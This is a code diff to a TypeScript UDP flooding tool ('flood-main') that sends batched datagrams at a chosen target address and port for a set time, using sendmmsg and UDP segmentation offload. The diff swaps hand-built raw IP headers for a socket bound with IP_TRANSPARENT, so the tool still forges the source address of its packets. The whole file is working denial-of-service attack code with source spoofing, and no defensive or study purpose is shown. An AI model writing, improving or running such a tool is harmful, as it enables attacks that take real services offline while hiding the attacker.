@@ -3,7 +3,7 @@
  *
  *   node flood-main.js <json of FloodOrder>
  *
- * Prints `{"sent":<datagrams>}` at its end. Source: sendmmsg(2), raw(7).
+ * Prints `{"sent":<datagrams>}` at its end. Source: sendmmsg(2), ip(7), udp(7).
  */
 import { readFileSync } from 'node:fs';
 import { packetMemory } from '../../../overlay/batch/packet-memory.js';
@@ -12,13 +12,9 @@ import type { FloodOrder } from './flood.js';
 
 const AF_INET = 2;
 const SOCK_DGRAM = 2;
-const SOCK_RAW = 3;
-/** The IP header comes with the packet. */
-const IPPROTO_RAW = 255;
-const IP_HEADER_BYTES = 20;
-const UDP_HEADER_BYTES = 8;
-const UDP = 17;
-const TTL = 64;
+const SOL_IP = 0;
+/** Any source may be claimed. */
+const IP_TRANSPARENT = 19;
 
 /** `struct mmsghdr`, `struct iovec` and `struct sockaddr_in` of a 64-bit system. */
 const MESSAGE_BYTES = 64;
@@ -31,23 +27,8 @@ const UDP_SEGMENT = 103;
 /** Datagrams in one message that the system cuts up. */
 const SEGMENTS = 40;
 
-/** With the headers of whoever is said to have sent it; the kernel puts in lengths and the checksum. */
-function dressed(payload: Buffer, { target, port, spoofed }: FloodOrder): Buffer {
-  if (spoofed === undefined) return payload;
-  const headers = Buffer.alloc(IP_HEADER_BYTES + UDP_HEADER_BYTES);
-  headers[0] = 0x45;
-  headers[8] = TTL;
-  headers[9] = UDP;
-  headers.set(spoofed.source.split('.').map(Number), 12);
-  headers.set(target.split('.').map(Number), 16);
-  headers.writeUInt16BE(spoofed.port, IP_HEADER_BYTES);
-  headers.writeUInt16BE(port, IP_HEADER_BYTES + 2);
-  headers.writeUInt16BE(UDP_HEADER_BYTES + payload.length, IP_HEADER_BYTES + 4);
-  return Buffer.concat([headers, payload]);
-}
-
 function messagesOf(order: FloodOrder): Buffer[] {
-  const datagrams = order.payloads.map((hex) => dressed(Buffer.from(hex, 'hex'), order));
+  const datagrams = order.payloads.map((hex) => Buffer.from(hex, 'hex'));
   if (order.runsOfBytes === undefined) return datagrams;
   const runs: Buffer[] = [];
   for (let first = 0; first + SEGMENTS <= datagrams.length; first += SEGMENTS) {
@@ -65,9 +46,11 @@ function main(order: FloodOrder): void {
   const base = calls.addressOf(bytes);
   const vectorsAt = datagrams.length * MESSAGE_BYTES;
   const nameAt = vectorsAt + datagrams.length * VECTOR_BYTES;
-  view.setUint16(nameAt, AF_INET, true);
-  view.setUint16(nameAt + 2, order.port);
-  bytes.set(order.target.split('.').map(Number), nameAt + 4);
+  const putName = (address: string, port: number): void => {
+    view.setUint16(nameAt, AF_INET, true);
+    view.setUint16(nameAt + 2, port);
+    bytes.set(address.split('.').map(Number), nameAt + 4);
+  };
   const put64 = (at: number, value: number): void => {
     view.setBigUint64(at, BigInt(value), true);
   };
@@ -84,14 +67,20 @@ function main(order: FloodOrder): void {
     put64(vector + 8, datagram.length);
     at += datagram.length;
   }
-  const isRaw = order.spoofed !== undefined;
-  const fd = calls.socket(AF_INET, isRaw ? SOCK_RAW : SOCK_DGRAM, isRaw ? IPPROTO_RAW : 0);
-  if (fd < 0) throw new Error(`no socket: ${String(calls.errno())}`);
-  if (order.runsOfBytes !== undefined) {
-    view.setUint32(0, order.runsOfBytes, true);
-    if (calls.setsockopt(fd, SOL_UDP, UDP_SEGMENT, base, 4) < 0) throw new Error('no UDP_SEGMENT');
-    put64(0, base + nameAt);
+  const fd = calls.socket(AF_INET, SOCK_DGRAM, 0);
+  const option = (level: number, name: number, value: number): void => {
+    const memory = new Uint8Array(Uint32Array.of(value).buffer);
+    if (calls.setsockopt(fd, level, name, calls.addressOf(memory), memory.length) < 0) {
+      throw new Error(`socket option ${String(name)}: errno ${String(calls.errno())}`);
+    }
+  };
+  if (order.spoofed !== undefined) {
+    option(SOL_IP, IP_TRANSPARENT, 1);
+    putName(order.spoofed.source, order.spoofed.port);
+    if (calls.bind(fd, base + nameAt, NAME_BYTES) < 0) throw new Error('the source is not free');
   }
+  if (order.runsOfBytes !== undefined) option(SOL_UDP, UDP_SEGMENT, order.runsOfBytes);
+  putName(order.target, order.port);
   const deadlineMs = performance.now() + order.seconds * 1000;
   let sent = 0;
   for (let first = 0; performance.now() < deadlineMs;) {
